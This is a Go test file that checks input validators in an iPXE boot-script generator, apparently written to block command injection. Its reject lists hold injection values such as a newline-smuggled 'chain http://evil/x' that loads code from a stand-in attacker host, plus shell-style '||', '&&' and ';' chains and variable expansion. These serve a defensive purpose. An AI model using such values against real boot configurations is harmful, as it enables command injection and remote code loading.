package ipxe

import (
	"strings"
	"testing"
)

func TestCheckCmdline(t *testing.T) {
	for _, ok := range []string{"", "console=ttyS0,115200 quiet", "rl.debug  panic=-1", `foo="a"`, "a#b"} {
		if err := CheckCmdline(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []string{"quiet\nshell", "quiet\r\nchain http://evil/x", "a\tb", "a || shell", "a && b", "a ; b", "a #rest", "x=${net0/mac}", "a\x00b", "a\u0085b"} {
		if err := CheckCmdline(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func TestCheckName(t *testing.T) {
	for _, ok := range []string{"qemu", "x86-64_v2.1", "A"} {
		if err := CheckName(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []string{"", "-x", "a b", "a/b", "a\nshell", "ü", strings.Repeat("a", 65), "..", "local host"} {
		if err := CheckName(bad); err == nil {
			t.Errorf("%q accepted", bad)
		}
	}
}

func TestScriptRefusesInjection(t *testing.T) {
	s := NewScript()
	s.Comment("boot x")
	s.Command("kernel", "http://10.0.0.1/k", "quiet")
	s.Command("boot")
	b, err := s.Bytes()
	if err != nil || string(b) != "#!ipxe\n# boot x\nkernel http://10.0.0.1/k quiet\nboot\n" {
		t.Fatalf("%q %v", b, err)
	}
	for _, args := range [][]string{{"a\nshell"}, {"||", "shell"}, {"${x}"}, {""}, {"#"}} {
		s := NewScript()
		s.Command("kernel", args...)
		s.Command("boot")
		if b, err := s.Bytes(); err == nil {
			t.Errorf("%q: wrote %q", args, b)
		}
	}
	s = NewScript()
	s.Comment("x\nshell")
	if _, err := s.Bytes(); err == nil {
		t.Error("multi-line comment written")
	}
}
